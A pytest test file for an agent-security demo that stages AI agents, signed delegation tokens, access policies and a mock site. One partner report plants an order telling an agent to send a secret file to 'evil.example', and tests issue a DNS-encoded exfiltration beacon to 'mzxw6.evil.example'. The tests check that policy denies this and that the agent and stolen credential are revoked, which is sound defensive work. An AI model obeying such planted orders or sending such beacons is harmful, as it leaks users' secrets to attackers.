"""The parts of the demo: the home that it writes, the tokens that it signs, its origins and names, what it prints."""

import http.client
import io
import json
import os
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import dns.message
import dns.query
import dns.rcode
import pytest

from enforcers.core.claims import caller_of, check_claims, issuer_of
from enforcers.core.jws import parse_jwks, parse_token, verify
from ext.decide import Matcher
from pipeline.cli.common import open_home
from pipeline.cli.demo.agent import ORDER, refused_for
from pipeline.cli.demo.facts import Closed, Facts, Missed
from pipeline.cli.demo.play import SECRET_FILE, Play
from pipeline.cli.demo.show import GREEN, Show
from pipeline.cli.demo.site import Site
from pipeline.cli.demo.stage import AUDIENCE, ISSUER, OWNER, PARTNER, Stage
from pipeline.cli.main import main
from pipeline.policy.load import load_bundle
from schemas.agents import Agent, Agents, encode, parse
from schemas.calls import parse_call
from schemas.config import load_config
from schemas.errors import OperatorFault, PeerFault
from schemas.home import Home
from schemas.process import private_dir, write_run_file
from schemas.records import SEPARATOR, Verdict
from schemas.vocabulary import action_uid, host_uid

PORT = 8_080


def staged(root: Path) -> Stage:
    stage = Stage(Home(root))
    stage.write(PORT, "127.0.0.1:5353")
    return stage


def agents_of(stage: Stage) -> Agents:
    listed = [Agent(name=name, owner="o", secret="", subs=((ISSUER, stage.cast.subject(name)),)) for name in stage.cast.agents]
    return parse(encode(listed, 1), "agents")


def test_a_token_says_who_acts_for_whom_and_the_key_set_knows_it(tmp_path: Path) -> None:
    stage = staged(tmp_path / "home")
    config = load_config(stage.home.config)
    keys = parse_jwks(Path(config.issuer[0].jwks_file).read_bytes(), "jwks")
    for agents, chain in (
        (("assistant",), 'User::"alice"|Agent::"assistant"'),
        (("assistant", "researcher"), 'User::"alice"|Agent::"assistant"|Agent::"researcher"'),
    ):
        token = parse_token(stage.token(*agents))
        assert verify(token, keys).kid == "demo-1"
        assert issuer_of(token.claims) == config.issuer[0].url == ISSUER
        until_s, issued_s = check_claims(token.claims, audience=AUDIENCE, now_s=time.time())
        said = {"issuer": ISSUER, "until_s": until_s, "issued_s": issued_s, "token": "t", "key": "k"}
        caller = caller_of(token.claims, agents_of(stage), **said)  # type: ignore[arg-type]
        assert caller.chain.text.replace(SEPARATOR, "|") == chain


def test_policies_let_the_staff_work_and_nothing_else(tmp_path: Path) -> None:
    stage = staged(tmp_path / "home")
    matcher = Matcher(load_bundle(stage.home.policies).encode())
    alone, both = ('Agent::"assistant"',), ('Agent::"assistant"', 'Agent::"researcher"')

    def verdict(links: tuple[str, ...], verb: str, host: str) -> Verdict:
        return matcher.decide(links, action_uid(f"http:{verb}"), host_uid(host, PORT)).verdict

    for host in (f"docs.{OWNER}", f"reports.{PARTNER}"):
        assert verdict(both, "GET", host) is Verdict.ALLOW
    assert verdict(alone, "POST", f"tickets.{OWNER}") is Verdict.ALLOW
    assert verdict(both, "POST", f"tickets.{OWNER}") is Verdict.DENY
    assert verdict(both, "GET", f"mzxw6.{stage.cast.attacker}") is Verdict.DENY


def test_the_past_is_of_recorded_calls_that_policies_permit(tmp_path: Path) -> None:
    stage = staged(tmp_path / "home")
    matcher = Matcher(load_bundle(stage.home.policies).encode())
    file = tmp_path / "history.jsonl"
    count = stage.write_history(file, PORT)
    lines = file.read_bytes().splitlines()
    calls = [parse_call(line, n, file=file.name, digest=b"") for n, line in enumerate(lines, 1)]
    assert len(calls) == count
    assert {call.agent for call in calls} == {"assistant", "researcher"}
    first, last = calls[0].time_ns / 1e9, calls[-1].time_ns / 1e9
    assert (time.time() - first) / 86_400 > 12  # longer than a detector has to learn
    assert time.time() - last > 3_600  # and over before anything happens
    verdicts = {matcher.decide(call.chain[1:], action_uid(call.action), call.resource).verdict for call in calls}
    assert verdicts == {Verdict.ALLOW}


def test_the_rules_revoke_the_agent_and_the_stolen_credential(tmp_path: Path) -> None:
    config = load_config(staged(tmp_path / "home").home.config)
    assert [(rule.finding, rule.revoke) for rule in config.respond] == [("risk", "agent"), ("second-holder", "credential")]
    assert config.egress.allow_addresses == (f"127.0.0.1/32:{PORT}",)


def test_a_second_play_in_one_home_has_other_agents_and_another_attacker(tmp_path: Path) -> None:
    first = staged(tmp_path / "home").cast
    second = staged(tmp_path / "home")
    assert not {*first.agents, first.attacker} & {*second.cast.agents, second.cast.attacker}
    entities = json.loads((second.home.policies / "entities.json").read_bytes())
    known = {one["uid"]["id"] for one in entities if one["uid"]["type"] == "Agent"}
    assert known == {*first.agents, *second.cast.agents}


def test_a_home_that_holds_something_else_is_left_alone(tmp_path: Path) -> None:
    home = Home(tmp_path / "home")
    open_home(home)
    home.config.write_text("[egress]\ndoors = 2\n")
    with pytest.raises(OperatorFault, match="holds something else"):
        Stage(home)
    assert home.config.read_text() == "[egress]\ndoors = 2\n"


def test_a_home_in_which_something_runs_is_left_alone(tmp_path: Path) -> None:
    home = staged(tmp_path / "home").home
    before = home.config.read_text()
    private_dir(home.run)
    write_run_file(home.run_file("up"), {"name": "up", "pid": os.getpid(), "state": "ready"})
    with pytest.raises(OperatorFault, match=f"is held by process {os.getpid()}"):
        Stage(home)
    assert home.config.read_text() == before


def test_origins_answer_by_their_names_and_count_who_asked() -> None:
    asked: list[tuple[str, str]] = []

    def ask(trace: str, question: str) -> str:
        asked.append((trace, question))
        return "4 %"

    with Site(owner=OWNER, partner=PARTNER, attacker="evil.example", file=SECRET_FILE, ask=ask) as site:
        def call(host: str, path: str, body: str | None = None) -> tuple[int, str]:
            made = http.client.HTTPConnection("127.0.0.1", site.port, timeout=10)
            made.request("POST" if body else "GET", path, body, {"Host": f"{host}:{site.port}", "traceparent": "00-1"})
            answer = made.getresponse()
            said = answer.status, answer.read().decode()
            made.close()
            return said

        assert call(f"docs.{OWNER}", "/prices")[0] == 200
        assert call(f"docs.{OWNER}", "/nothing")[0] == 404
        assert call(f"agents.{OWNER}", "/researcher", "how?") == (200, "4 %")
        assert asked == [("00-1", "how?")]
        order = ORDER.search(call(f"reports.{PARTNER}", "/q4")[1])
        assert order is not None
        assert (order[1], order[2]) == (SECRET_FILE, "evil.example")
        assert site.of_attacker() == (0, 0)
        host, _, port = site.name_server.rpartition(":")

        def look_up(name: str) -> dns.message.Message:
            return dns.query.udp(dns.message.make_query(name, "A"), host, timeout=10, port=int(port))

        assert str(look_up(f"docs.{OWNER}").answer[0][0]) == "127.0.0.1"
        assert look_up("docs.elsewhere.example").rcode() == dns.rcode.NXDOMAIN
        assert str(look_up("mzxw6.evil.example").answer[0][0]) == "127.0.0.1"
        assert call("mzxw6.evil.example", "/i.gif")[0] == 200
        assert site.of_attacker() == (1, 1)


def test_an_agent_tells_a_door_from_an_origin() -> None:
    assert refused_for(b'{"reason": "revoked", "message": "m"}') == "revoked"
    assert refused_for(b"there is no such page") == "there is no such page"


def test_what_does_not_happen_ends_the_demo_with_1_and_says_which(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def run(play: Play) -> None:
        raise Missed("not within 20 s: rule `turned` revokes; findings: none")

    monkeypatch.setattr(Play, "run", run)
    assert main(["demo", "--home", str(tmp_path / "home")]) == 1
    said = capsys.readouterr().err
    assert said == (f"wardline: the demo has failed: not within 20 s: rule `turned` revokes; findings: none; "
                    f"logs are in {tmp_path / 'home' / 'log'}\n")  # fmt: skip


def test_it_waits_for_what_is_stored_and_names_what_is_not(tmp_path: Path) -> None:
    facts = Facts(Home(tmp_path), None)  # type: ignore[arg-type]
    looked: list[int] = []

    def look() -> int:
        looked.append(1)
        if len(looked) == 1:
            raise PeerFault("the store does not answer")
        return len(looked) if len(looked) > 2 else 0

    assert facts.until(look, 5, "something") == 3
    with pytest.raises(Missed, match="not within 0 s: a call is refused"):
        facts.until(lambda: None, 0, "a call is refused")
    with pytest.raises(Missed, match="by then"):
        facts.until(lambda: None, 0, lambda: "as it is by then")


def test_the_steps_of_a_loop_are_counted_from_the_call_that_crossed_the_threshold() -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    closed = Closed(
        finding="f", rule="r", selector=f"token:{'ab' * 32}", epoch=7, crossed=at, found=at + timedelta(milliseconds=200),
        revoked=at + timedelta(milliseconds=250), obeyed=(("door-1 of enforce-1", at + timedelta(milliseconds=270)),),
        refused=at + timedelta(milliseconds=300), refusals=2,
    )  # fmt: skip
    assert closed.steps() == [
        ("the finding is in the store", 200.0), ("control has revoked token:abababababab...", 250.0),
        ("door-1 of enforce-1 obeys", 270.0), ("the first call is refused for it", 300.0),
    ]  # fmt: skip
    assert replace(closed, found=None).steps()[0][0].startswith("control has revoked")


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_colours_are_for_terminals_that_want_them(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.delenv("NO_COLOR", raising=False)
    pipe, terminal = io.StringIO(), Terminal()
    for out in (pipe, terminal):
        Show(out).step("researcher", f"GET {'x' * 200}.evil.example\x1b[2J", "403", GREEN)
    assert "\x1b" not in pipe.getvalue()
    assert "\x1b[32m403\x1b[0m" in terminal.getvalue()
    assert "\x1b[2J" not in terminal.getvalue()  # what somebody else wrote tells a terminal nothing
    assert len(pipe.getvalue()) < 100
    monkeypatch.setenv("NO_COLOR", "1")
    quiet = Terminal()
    Show(quiet).heading("x")
    assert quiet.getvalue() == "\nx\n"
